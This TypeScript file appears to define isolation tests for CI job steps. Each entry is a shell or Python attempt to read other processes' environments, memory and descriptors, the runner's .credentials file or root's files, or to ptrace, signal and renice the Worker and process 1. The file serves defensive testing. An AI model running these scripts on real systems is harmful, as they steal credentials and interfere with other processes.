import { type Attempt, both, effect, group, sees, wins } from '../attempt.ts';

/** The processes of the job: their environment, memory, descriptors, and what one process can do to another. */
export const processes: Attempt[] = [
  ...group('env', "The step's environment", [
    { name: 'reads its own variables', judge: sees('oidc'), script: 'env' },
    { name: 'reads its own /proc/self/environ', judge: sees('oidc'), script: 'cat /proc/self/environ' },
    { name: "reads its parent's environment", judge: sees('oidc'), script: 'cat /proc/$PPID/environ' },
    {
      name: 'reads the environment of every ancestor',
      judge: sees('workerEnvironment'),
      script:
        'p=$$; while [ "$p" -gt 0 ]; do cat /proc/$p/environ; p=$(awk "/^PPid/ { print \\$2 }" /proc/$p/status); done',
    },
    {
      name: 'reads every /proc/*/environ',
      judge: sees('workerEnvironment'),
      script: 'cat /proc/[0-9]*/environ',
    },
    {
      name: 'reads every /proc/*/task/*/environ',
      judge: sees('workerEnvironment'),
      script: 'cat /proc/[0-9]*/task/*/environ',
    },
    { name: 'asks ps for environments', judge: sees('workerEnvironment'), script: 'ps axeww' },
    ...both({
      name: 'reads the environment of process 1',
      judge: sees('rootEnvironment'),
      script: 'cat /proc/1/environ',
    }).filter(({ as }) => as === 'root'),
    {
      name: 'reads every /proc/*/environ',
      as: 'root',
      judge: sees('workerEnvironment'),
      script: 'cat /proc/[0-9]*/environ',
    },
    {
      name: "reads the Worker's environment by a process number from outside",
      as: 'root',
      judge: sees('workerEnvironment'),
      script: 'cat /proc/$(worker | tail -1)/environ',
    },
    {
      name: 'mounts /proc anew and reads every environment',
      as: 'root',
      judge: sees('workerEnvironment'),
      script:
        'mkdir /tmp/$ID; mount -t proc proc /tmp/$ID && cat /tmp/$ID/[0-9]*/environ; umount /tmp/$ID; rmdir /tmp/$ID',
    },
    {
      name: 'reads the variables through the shell history of exported functions',
      judge: sees('oidc'),
      script: 'declare -x; export -p',
    },
  ]),
  ...group('mem', 'Memory and descriptors of other processes', [
    ...both({
      name: "reads the Worker's memory in /proc/*/mem",
      judge: sees('workerMemory'),
      script: `py <<'E'
for pid in workers():
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error:
        print(error); continue
    for line in maps:
        span, mode = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if not mode.startswith("rw") or high - low > 1 << 28: continue
        try:
            memory.seek(low)
            found = re.search(rb"secret-workerMemory-[0-9a-f]{40}", memory.read(high - low))
        except (OSError, ValueError, OverflowError): continue
        if found: print(found.group().decode()); sys.exit()
E`,
    }),
    ...both({
      name: "reads the Worker's memory with process_vm_readv",
      judge: sees('workerMemory'),
      script: `py <<'E'
class Span(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in workers():
    try: maps = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError as error: print(error); continue
    for line in maps:
        span, mode = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if not mode.startswith("rw") or high - low > 1 << 28: continue
        size = 1 << 22
        buffer = ctypes.create_string_buffer(size)
        for start in range(low, high, size // 2):
            mine = Span(ctypes.addressof(buffer), size)
            theirs = Span(start, min(size, high - start))
            got = call(310, pid, ctypes.byref(mine), ctypes.c_ulong(1), ctypes.byref(theirs), ctypes.c_ulong(1), ctypes.c_ulong(0))
            if got <= 0: continue
            found = re.search(rb"secret-workerMemory-[0-9a-f]{40}", buffer.raw[:got])
            if found: print(found.group().decode()); sys.exit()
E`,
    }),
    ...both({
      name: 'attaches to the Worker with PTRACE_ATTACH',
      judge: wins,
      script: `py <<'E'
for pid in workers():
    if call(101, 16, pid, 0, 0) == 0:
        os.waitpid(pid, 0x40000000); call(101, 17, pid, 0, 0); won()
E`,
    }),
    ...both({
      name: 'attaches to the Worker with PTRACE_SEIZE',
      judge: wins,
      script: `py <<'E'
for pid in workers():
    if call(101, 0x4206, pid, 0, 0) == 0: won()
E`,
    }),
    {
      name: 'attaches to a process of another user',
      as: 'root',
      judge: wins,
      script: `py <<'E'
for folder in glob.glob("/proc/[0-9]*"):
    pid = int(folder[6:])
    try: foreign = int(open(folder + "/uid_map").read().split()[1]) == 0 and os.stat("/proc/self/ns/user").st_ino != os.stat(folder + "/ns/user").st_ino
    except (OSError, IndexError): foreign = True
    if pid in services(): foreign = True
    if foreign and call(101, 0x4206, pid, 0, 0) == 0: won()
E`,
    },
    ...both({
      name: 'takes a descriptor of the Worker with pidfd_getfd',
      judge: wins,
      script: `py <<'E'
for pid in workers():
    handle = call(434, pid, 0)
    if handle >= 0 and any(call(438, handle, number, 0) >= 0 for number in range(0, 30)): won()
E`,
    }),
    {
      name: 'takes a descriptor of any process outside its user namespace',
      as: 'root',
      judge: wins,
      script: `py <<'E'
own = os.readlink("/proc/self/ns/user")
for folder in glob.glob("/proc/[0-9]*"):
    pid = int(folder[6:])
    try: same = os.readlink(folder + "/ns/user") == own
    except OSError: same = False
    if same and pid not in services(): continue
    handle = call(434, pid, 0)
    if handle >= 0 and call(438, handle, 0, 0) >= 0: won()
E`,
    },
    ...both({
      name: "opens the Worker's descriptors in /proc/*/fd",
      judge: wins,
      script:
        'for p in $(worker); do for f in /proc/$p/fd/*; do [ -e "$f" ] && readlink "$f" && won; done; done',
    }),
    ...both({
      name: "reads the runner's files through the Worker's root",
      judge: sees('credentials'),
      script: 'for p in $(worker); do cat /proc/$p/root/home/runner/actions-runner/.credentials; done',
    }),
    ...both({
      name: "reads the runner's files through the Worker's current folder",
      judge: sees('credentials'),
      script: 'for p in $(worker); do cat /proc/$p/cwd/home/runner/actions-runner/.credentials; done',
    }),
    {
      name: 'reads the Worker’s mount table',
      judge: wins,
      script: 'for p in $(worker); do grep -q . /proc/$p/mountinfo && won; done',
    },
    {
      name: 'reads the command line of a service of the machine',
      judge: wins,
      script: '[ -n "$(services)" ] && won',
    },
    {
      name: 'joins the namespaces of process 1 with nsenter',
      as: 'root',
      judge: sees('rootFile'),
      script:
        'nsenter -t 1 -m -p -i -n cat /root/secret; for p in $(services) $(worker); do nsenter -t $p -m cat /root/secret; done',
    },
    {
      name: 'reads a file of root through /proc/1/root',
      as: 'root',
      judge: sees('rootFile'),
      script: 'cat /proc/1/root/root/secret',
    },
    {
      name: 'reads the descriptors that it inherited',
      judge: sees('descriptor'),
      script: 'for f in /proc/self/fd/*; do timeout 1 head -c 1000 "$f"; done',
    },
    { name: 'reads descriptor 101 of the runner', judge: sees('descriptor'), script: 'cat <&101' },
    {
      name: 'reads the descriptors of its ancestors',
      judge: sees('descriptor'),
      script:
        'p=$PPID; while [ "$p" -gt 1 ]; do cat /proc/$p/fd/101; p=$(awk "/^PPid/ { print \\$2 }" /proc/$p/status); done',
    },
    {
      name: 'opens a performance counter on the Worker',
      as: 'root',
      judge: wins,
      script: `py <<'E'
event = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 1) + bytes(96))
for pid in workers():
    if call(298, event, pid, -1, -1, 0) >= 0: won()
E`,
    },
  ]),
  ...group('sig', 'Signals, priorities and limits', [
    ...both({
      name: 'sends a signal to the Worker',
      judge: wins,
      script:
        'for p in $(worker); do [ -d /proc/$p ] || continue; tr "\\0" " " </proc/$p/cmdline | grep -q Runner.Worker && kill -CONT $p && won; done',
    }),
    ...both({
      name: 'sends a signal to the Worker through a pidfd',
      judge: wins,
      script: `py <<'E'
for pid in named("Runner.Worker"):
    handle = call(434, pid, 0)
    if handle >= 0 and call(424, handle, 18, 0, 0) == 0: won()
E`,
    }),
    {
      name: 'sends a signal to a service of the machine',
      as: 'root',
      judge: wins,
      script: 'for p in $(services); do kill -CONT $p && won; done',
    },
    {
      name: 'sends a signal to the process group of the step',
      judge: wins,
      script: `py <<'E'
parent = os.getppid()
for _ in range(20):
    status = open(f"/proc/{parent}/status").read()
    parent = int(re.search(r"PPid:\\s+(\\d+)", status).group(1))
    if parent <= 1: break
    if "Runner.Worker" in open(f"/proc/{parent}/cmdline").read():
        os.kill(parent, 18); won()
E`,
    },
    ...both({
      name: "lowers the Worker's priority",
      judge: wins,
      script:
        'for p in $(worker); do tr "\\0" " " </proc/$p/cmdline | grep -q Runner.Worker && renice -n 0 -p $p && won; done',
    }),
    ...both({
      name: "sets the Worker's limits",
      judge: wins,
      script:
        'for p in $(worker); do tr "\\0" " " </proc/$p/cmdline | grep -q Runner.Worker && prlimit --pid $p --core=0:0 && won; done',
    }),
    ...both({
      name: "sets the Worker's processors",
      judge: wins,
      script:
        'for p in $(worker); do tr "\\0" " " </proc/$p/cmdline | grep -q Runner.Worker && taskset -pc 0 $p && won; done',
    }),
    ...(
      [
        ['priority', 'renice -n 3 -p 1', '[ "$(ps -o ni= -p 1 | tr -d " ")" = 3 ]', 'renice -n 0 -p 1'],
        [
          'limits',
          'prlimit --pid 1 --core=4096:',
          'grep -q "core file size *4096" /proc/1/limits',
          'prlimit --pid 1 --core=0:',
        ],
        ['processors', 'taskset -pc 0 1', 'taskset -pc 1 | grep -q "list: 0$"', 'taskset -pc 0-999 1'],
        [
          'score for the memory killer',
          'echo 77 >/proc/1/oom_score_adj',
          'grep -qx 77 /proc/1/oom_score_adj',
          'echo 0 >/proc/1/oom_score_adj',
        ],
        ['input priority', 'ionice -c 3 -p 1', 'ionice -p 1 | grep -q idle', 'ionice -c 0 -p 1'],
      ] as const
    ).map(([what, script, probe, undo]) => ({
      name: `sets the ${what} of the machine's process 1`,
      as: 'root' as const,
      judge: effect(probe),
      script,
      undo,
    })),
    {
      name: "sets the priority of all of the runner's processes",
      judge: effect('[ "$(ps -o ni= -p $(pgrep -f Runner.Worker | head -1) | tr -d " ")" = 4 ]'),
      script: 'renice -n 4 -u runner',
    },
    {
      name: "sets the priority of all of root's processes",
      as: 'root',
      judge: effect('[ "$(ps -o ni= -p 1 | tr -d " ")" = 2 ]'),
      script: 'renice -n 2 -u root',
      undo: 'renice -n 0 -u root',
    },
  ]),
];
